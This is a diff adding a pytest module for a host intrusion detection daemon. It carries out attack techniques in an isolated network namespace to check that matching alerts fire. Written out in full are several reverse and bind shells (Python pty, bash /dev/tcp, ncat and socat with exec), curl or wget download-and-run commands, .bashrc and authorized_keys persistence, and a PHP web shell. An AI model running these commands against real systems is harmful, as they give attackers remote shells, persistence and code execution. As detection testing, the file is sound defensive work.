@@ -1,0 +1,429 @@
+"""Attack techniques performed for real against the real daemon (issue 17), one per test.
+
+One ``vedette run`` for the module (process collector with kernel audit exec facts, sockets
+sampled every second, every shipped rule). Network parts run inside a network namespace the
+test creates, with 198.18.0.0/15 addresses on its loopback and no route out; listeners the
+sockets collector must see are bound to the host's 127.0.0.1 only. Every process is stopped by
+PID and every file, user and namespace is removed in ``finally`` blocks, also on failure.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import secrets
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from conftest import REPO, AgentProcess, base_config, deep_merge, free_port
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, audit)")
+ATTACKER, VICTIM = "198.18.0.1", "198.18.0.2"
+LOW = 2  # event.severity of a low alert (agent/alerts.py LEVELS)
+
+
+def _rule_ids() -> dict[str, str]:
+    ids: dict[str, str] = {}
+    for path in (REPO / "rules").rglob("*.yml"):
+        for doc in yaml.safe_load_all(path.read_text()):
+            if isinstance(doc, dict) and doc.get("name") and doc.get("id"):
+                ids[doc["name"]] = doc["id"]
+    return ids
+
+
+RULE_IDS = _rule_ids()
+
+
+@pytest.fixture(scope="module")
+def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
+    workdir = tmp_path_factory.mktemp("attacks")
+    port = free_port()
+    config = deep_merge(base_config(workdir, port), {
+        "process": {"enabled": True, "fallback_polling": False, "cpu_sampling": False},
+        "sockets": {"enabled": True, "interval_seconds": 1.0, "include_loopback": True},
+        "fim": {"enabled": True, "rescan_interval_seconds": 3600},
+        "auth_logs": {"enabled": False},
+        "web_logs": {"enabled": True, "paths": [str(workdir / "access.log")],
+                     "poll_interval_seconds": 0.2},
+        "auditd": {"enabled": False},
+        "kernel_modules": {"enabled": False},
+        "detection": {"rule_paths": [str(REPO / "rules")]},
+    })
+    (workdir / "access.log").touch()
+    proc = AgentProcess(workdir, config, port).start()
+    try:
+        proc.wait_for(lambda: proc.sample("vedette_process_exec_source", {"source": "audit"})
+                      == 1.0, 15, "audit exec facts active")
+        proc.wait_for(lambda: (proc.sample("vedette_fim_files") or 0) > 0, 60, "FIM baseline")
+        time.sleep(1)  # inotify armed after the baseline
+        yield proc
+    finally:
+        with contextlib.suppress(Exception):
+            proc.stop()
+        proc.kill()
+
+
+@pytest.fixture
+def netns() -> Iterator[str]:
+    if shutil.which("ip") is None:
+        pytest.skip("needs iproute2")
+    name = f"vdt-atk-{os.getpid() % 100000}{secrets.token_hex(2)}"
+    subprocess.run(["ip", "netns", "add", name], check=True, timeout=20)
+    try:
+        for cmd in (["link", "set", "lo", "up"],
+                    ["addr", "add", f"{ATTACKER}/32", "dev", "lo"],
+                    ["addr", "add", f"{VICTIM}/32", "dev", "lo"]):
+            subprocess.run(["ip", "-n", name, *cmd], check=True, timeout=20)
+        yield name
+    finally:
+        subprocess.run(["ip", "netns", "del", name], check=False, timeout=20)
+
+
+class Procs:
+    """Processes started by a test, each in its own process group, stopped by PID."""
+
+    def __init__(self) -> None:
+        self.started: list[subprocess.Popen[bytes]] = []
+
+    def spawn(self, *argv: str, ns: str | None = None, **kw: Any) -> subprocess.Popen[bytes]:
+        cmd = ["ip", "netns", "exec", ns, *argv] if ns else list(argv)
+        kw.setdefault("stdin", subprocess.DEVNULL)
+        kw.setdefault("stdout", subprocess.DEVNULL)
+        kw.setdefault("stderr", subprocess.DEVNULL)
+        proc = subprocess.Popen(cmd, start_new_session=True, **kw)
+        self.started.append(proc)
+        return proc
+
+    def stop(self) -> None:
+        for proc in reversed(self.started):
+            if proc.poll() is None:
+                with contextlib.suppress(ProcessLookupError):
+                    os.killpg(proc.pid, signal.SIGKILL)
+            with contextlib.suppress(subprocess.TimeoutExpired):
+                proc.wait(5)
+
+
+@pytest.fixture
+def procs() -> Iterator[Procs]:
+    p = Procs()
+    try:
+        yield p
+    finally:
+        p.stop()
+
+
+def alerts_of(agent: AgentProcess, name: str, since: float = 0.0) -> list[dict[str, Any]]:
+    """Alerts of a rule first seen at or after ``since`` (less 5 ms: kernel audit times are
+    truncated to the millisecond)."""
+    since -= 0.005
+    out = []
+    for a in agent.alerts():
+        if a.get("rule", {}).get("id") != RULE_IDS[name]:
+            continue
+        if _first_seen(a) >= since:
+            out.append(a)
+    return out
+
+
+def _first_seen(alert: dict[str, Any]) -> float:
+    from datetime import datetime  # noqa: PLC0415
+
+    raw = alert.get("event", {}).get("start") or alert.get("@timestamp", "")
+    try:
+        return datetime.fromisoformat(raw.replace("Z", "+00:00")).timestamp()
+    except ValueError:
+        return 0.0
+
+
+def wait_alert(agent: AgentProcess, name: str, since: float, timeout: float = 15.0) -> None:
+    agent.wait_for(lambda: bool(alerts_of(agent, name, since)), timeout, f"alert {name}")
+
+
+def wait_relay(agent: AgentProcess, relay_pid: int, since: float) -> None:
+    """The shell_socket_relay alert of the shell whose parent is ``relay_pid``."""
+    agent.wait_for(lambda: any(a["vedette"]["group"].get("process.parent.pid") == relay_pid
+                               for a in alerts_of(agent, "shell_socket_relay", since)),
+                   15, f"shell_socket_relay for parent {relay_pid}")
+
+
+def wait_port(ns: str | None, host: str, port: int, timeout: float = 10.0) -> None:
+    deadline = time.monotonic() + timeout
+    cmd = ["ss", "-Hltn", f"src {host}:{port}"]
+    while time.monotonic() < deadline:
+        out = subprocess.run(["ip", "netns", "exec", ns, *cmd] if ns else cmd,
+                             capture_output=True, text=True, timeout=10).stdout
+        if out.strip():
+            return
+        time.sleep(0.05)
+    raise AssertionError(f"nothing listens on {host}:{port}")
+
+
+def need(*tools: str) -> None:
+    missing = [t for t in tools if shutil.which(t) is None]
+    if missing:
+        pytest.skip(f"missing tools: {missing}")
+
+
+# -- shells ---------------------------------------------------------------------------------
+
+def test_python_pty_reverse_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
+    need("ncat")
+    t0 = time.time()
+    port = 4000 + secrets.randbelow(2000)
+    listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
+                           stdin=subprocess.PIPE)
+    wait_port(netns, ATTACKER, port)
+    code = (f"import socket,os,pty;s=socket.socket();s.connect(({ATTACKER!r},{port}));"
+            "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')")
+    victim = procs.spawn("python3", "-c", code, ns=netns)
+    wait_relay(agent, victim.pid, t0)
+    wait_alert(agent, "interpreter_reverse_shell", t0)
+    assert listener.stdin is not None
+    listener.stdin.close()
+
+
+def test_ncat_exec_bind_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
+    need("ncat")
+    t0 = time.time()
+    port = 4000 + secrets.randbelow(2000)
+    server = procs.spawn("ncat", "-n", "-l", VICTIM, str(port), "-e", "/bin/sh", ns=netns)
+    wait_port(netns, VICTIM, port)
+    client = procs.spawn("ncat", "-n", VICTIM, str(port), ns=netns, stdin=subprocess.PIPE)
+    assert client.stdin is not None
+    client.stdin.write(b"id\n")
+    client.stdin.flush()
+    wait_relay(agent, server.pid, t0)
+
+
+def test_socat_exec_bind_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
+    need("socat", "ncat")
+    t0 = time.time()
+    port = 4000 + secrets.randbelow(2000)
+    server = procs.spawn("socat", f"TCP-LISTEN:{port},bind={VICTIM},reuseaddr", "EXEC:/bin/sh",
+                         ns=netns)
+    wait_port(netns, VICTIM, port)
+    client = procs.spawn("ncat", "-n", VICTIM, str(port), ns=netns, stdin=subprocess.PIPE)
+    assert client.stdin is not None
+    client.stdin.write(b"id\n")
+    client.stdin.flush()
+    wait_relay(agent, server.pid, t0)
+
+
+def test_one_reverse_shell_with_children_is_one_alert(agent: AgentProcess, netns: str,
+                                                       procs: Procs) -> None:
+    need("ncat", "bash")
+    t0 = time.time()
+    port = 4000 + secrets.randbelow(2000)
+    listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
+                           stdin=subprocess.PIPE)
+    wait_port(netns, ATTACKER, port)
+    procs.spawn("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/{port} 0>&1", ns=netns)
+    assert listener.stdin is not None
+    listener.stdin.write(b"sh -c 'id'; sh -c 'uname -a'; sh -c 'hostname'\n")
+    listener.stdin.flush()
+    wait_alert(agent, "reverse_shell_socket_stdio", t0)
+    time.sleep(3)  # the children's execs arrive; they must fold into the same alert
+    shells = alerts_of(agent, "reverse_shell_socket_stdio", t0)
+    assert len({a["event"]["id"] for a in shells}) == 1, [a["vedette"]["group"] for a in shells]
+
+
+def test_plain_ncat_listener_is_no_bind_shell_but_one_with_exec_is(
+        agent: AgentProcess, procs: Procs) -> None:
+    need("ncat")
+    t0 = time.time()
+    plain, with_exec = free_port(), free_port()
+    procs.spawn("ncat", "-n", "-lk", "127.0.0.1", str(plain))
+    procs.spawn("ncat", "-n", "-lk", "127.0.0.1", str(with_exec), "-e", "/bin/cat")
+    wait_port(None, "127.0.0.1", plain)
+    wait_port(None, "127.0.0.1", with_exec)
+    wait_alert(agent, "shell_listening", t0)
+    wait_port(None, "127.0.0.1", plain)
+    time.sleep(2)  # two more socket samples
+    ports = {a["vedette"]["group"].get("server.port")
+             for a in alerts_of(agent, "shell_listening", t0)}
+    assert with_exec in ports and plain not in ports, ports
+
+
+# -- downloads executed ---------------------------------------------------------------------
+
+@pytest.fixture
+def web(netns: str, procs: Procs, tmp_path: Path) -> tuple[str, Path]:
+    """A plain HTTP server on the attacker address inside the namespace."""
+    root = tmp_path / "srv"
+    root.mkdir()
+    port = 4000 + secrets.randbelow(2000)
+    procs.spawn(sys.executable, "-m", "http.server", "--bind", ATTACKER, "--directory",
+                str(root), str(port), ns=netns)
+    wait_port(netns, ATTACKER, port)
+    return f"http://{ATTACKER}:{port}", root
+
+
+def test_curl_piped_into_sh(agent: AgentProcess, netns: str, web: tuple[str, Path],
+                            procs: Procs) -> None:
+    need("curl")
+    base, root = web
+    (root / "x.sh").write_text("echo pwned >/dev/null\n")
+    t0 = time.time()
+    run = procs.spawn("sh", "-c", f"curl -s {base}/x.sh | sh", ns=netns)
+    assert run.wait(20) == 0
+    wait_alert(agent, "download_piped_to_interpreter", t0)
+
+
+def test_wget_chmod_and_run_a_script(agent: AgentProcess, netns: str, web: tuple[str, Path],
+                                     procs: Procs, tmp_path: Path) -> None:
+    need("wget")
+    base, root = web
+    (root / "x").write_text("#!/bin/sh\necho pwned >/dev/null\n")
+    target = tmp_path / "drop" / "x"  # under /tmp: pytest's temporary directory
+    target.parent.mkdir()
+    assert str(target).startswith("/tmp/")
+    t0 = time.time()
+    run = procs.spawn("sh", "-c", f"wget -q -O {target} {base}/x && chmod +x {target} && "
+                      f"{target}", ns=netns)
+    assert run.wait(20) == 0
+    agent.wait_for(lambda: any(a["vedette"]["group"].get("vedette.download.path")
+                               == str(target)
+                               for a in alerts_of(agent, "download_then_execute", t0)),
+                   15, "download_then_execute for the dropped file")
+
+
+def test_binary_deleted_while_running(agent: AgentProcess, procs: Procs,
+                                      tmp_path: Path) -> None:
+    binary = tmp_path / "kworker-x"
+    shutil.copy("/bin/sleep", binary)
+    t0 = time.time()
+    procs.spawn(str(binary), "60")
+    time.sleep(0.3)
+    binary.unlink()
+    agent.wait_for(lambda: any(a["vedette"]["group"].get("process.executable") == str(binary)
+                               for a in alerts_of(agent, "running_executable_deleted", t0)),
+                   25, "running_executable_deleted")
+
+
+# -- accounts, setuid, web shells -----------------------------------------------------------
+
+def test_useradd_then_persistence_in_the_new_home(agent: AgentProcess) -> None:
+    need("useradd", "userdel")
+    user = f"vdt{os.getpid() % 100000}{secrets.token_hex(2)}"
+    t0 = time.time()
+    subprocess.run(["useradd", "-m", "-s", "/bin/sh", user], check=True, timeout=30)
+    try:
+        wait_alert(agent, "new_user_account", t0)
+        home = Path(f"/home/{user}")
+        time.sleep(1.5)  # the passwd change is read and the new home watched
+        with (home / ".bashrc").open("a") as fh:
+            fh.write("curl -s http://198.18.0.1/x | sh\n")
+        ssh = home / ".ssh"
+        ssh.mkdir(mode=0o700)
+        (ssh / "authorized_keys").write_text("ssh-ed25519 AAAAC3Nza attacker\n")
+        agent.wait_for(lambda: any(a["vedette"]["group"].get("file.path") == f"{home}/.bashrc"
+                                   for a in alerts_of(agent, "shell_profile_modified", t0)),
+                       15, "the new user's .bashrc change")
+        agent.wait_for(lambda: any(
+            a["vedette"]["group"].get("file.path") == f"{home}/.ssh/authorized_keys"
+            for a in alerts_of(agent, "ssh_authorized_keys_modified", t0)), 15,
+            "authorized_keys")
+    finally:
+        subprocess.run(["userdel", "-r", "-f", user], check=False, timeout=30,
+                       capture_output=True)
+
+
+def test_chmod_setuid_on_a_copied_shell(agent: AgentProcess, tmp_path: Path) -> None:
+    copy = tmp_path / "sh"
+    shutil.copy("/bin/dash", copy)
+    t0 = time.time()
+    subprocess.run(["chmod", "u+s", str(copy)], check=True, timeout=10)
+    wait_alert(agent, "setuid_bit_set", t0)
+
+
+def test_web_shell_dropped_and_used(agent: AgentProcess) -> None:
+    created_www = not Path("/var/www").exists()
+    site = Path("/var/www") / f"vdt-{os.getpid() % 100000}{secrets.token_hex(2)}"
+    t0 = time.time()
+    try:
+        site.mkdir(parents=True)
+        (site / "shell.php").write_text("<?php system($_GET['cmd']); ?>\n")
+        agent.wait_for(lambda: any(a["vedette"]["group"].get("file.path") ==
+                                   f"{site}/shell.php"
+                                   for a in alerts_of(agent, "web_shell_file_created", t0)),
+                       15, "web_shell_file_created")
+        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
+        with (agent.workdir / "access.log").open("a") as fh:
+            fh.write(f'198.18.0.20 - - [{stamp}] "GET /{site.name}/shell.php?cmd=id HTTP/1.1" '
+                     '200 54 "-" "curl/7.88.1"\n')
+        wait_alert(agent, "web_shell_request", t0 - 5)
+    finally:
+        shutil.rmtree(site, ignore_errors=True)
+        if created_www:
+            shutil.rmtree("/var/www", ignore_errors=True)
+
+
+# -- benign counterparts: nothing above low -------------------------------------------------
+
+def _tiny_deb(workdir: Path, name: str) -> Path:
+    pkg = workdir / name
+    (pkg / "DEBIAN").mkdir(parents=True)
+    (pkg / "DEBIAN" / "control").write_text(
+        f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.org>\n"
+        "Description: vedette test package\n")
+    unit_dir = pkg / "usr" / "lib" / "systemd" / "system"
+    unit_dir.mkdir(parents=True)
+    for i in range(3):
+        (unit_dir / f"{name}-{i}.service").write_text(
+            "[Unit]\nDescription=test\n[Service]\nExecStart=/bin/true\n")
+    subprocess.run(["dpkg-deb", "--build", str(pkg), str(workdir / f"{name}.deb")],
+                   check=True, capture_output=True, timeout=60)
+    return workdir / f"{name}.deb"
+
+
+def test_benign_admin_and_developer_work_raises_nothing_above_low(
+        agent: AgentProcess, tmp_path: Path) -> None:
+    need("gcc", "tar", "dpkg-deb", "dpkg")
+    marker = f"vdtb{os.getpid() % 100000}{secrets.token_hex(2)}"
+    work = tmp_path / marker
+    build = work / "home" / "dev" / "build"
+    build.mkdir(parents=True)
+    t0 = time.time()
+    # a developer compiling and running a program in a build dir under /tmp
+    (build / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
+    subprocess.run(["gcc", "-o", str(build / "hello"), str(build / "hello.c")], check=True,
+                   timeout=120, cwd=build)
+    subprocess.run([str(build / "hello")], check=True, timeout=10, capture_output=True)
+    # a backup of /etc
+    subprocess.run(["tar", "czf", str(work / "etc-backup.tgz"), "-C", "/", "etc"],
+                   check=False, timeout=120, capture_output=True)
+    # logrotate of an application log with its own state file
+    if shutil.which("logrotate"):
+        log = work / "app.log"
+        log.write_text("line\n" * 100)
+        conf = work / "logrotate.conf"
+        conf.write_text(f"{log} {{\n  rotate 2\n  compress\n  missingok\n}}\n")
+        subprocess.run(["logrotate", "-f", "-s", str(work / "state"), str(conf)], check=True,
+                       timeout=60)
+    # a package with three systemd units installed and removed
+    name = f"{marker}-pkg"
+    deb = _tiny_deb(work, name)
+    try:
+        subprocess.run(["dpkg", "-i", str(deb)], check=True, capture_output=True, timeout=120)
+        time.sleep(2)
+    finally:
+        subprocess.run(["dpkg", "--purge", name], check=False, capture_output=True,
+                       timeout=120)
+    time.sleep(3)
+    ours = [a for a in agent.alerts() if _first_seen(a) >= t0
+            and a.get("event", {}).get("severity", 0) > LOW
+            and (marker in json.dumps(a) or "/usr/lib/systemd/system/" in json.dumps(a))]
+    assert ours == [], [(a["rule"]["name"], a["vedette"]["group"]) for a in ours]
+    folded = [a for a in alerts_of(agent, "package_transaction_files", t0)]
+    assert folded, "the package's units are reported once, as low"
